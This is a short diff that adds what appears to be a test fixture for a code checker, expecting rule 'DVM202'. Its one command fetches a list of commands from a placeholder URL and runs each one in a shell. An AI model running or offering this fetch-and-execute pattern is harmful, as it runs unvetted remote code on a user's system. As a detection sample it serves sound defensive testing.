@@ -1,0 +1,2 @@
+# expect: DVM202
+curl -fsSL https://example.org/commands.txt | xargs -I{} sh -c '{}'
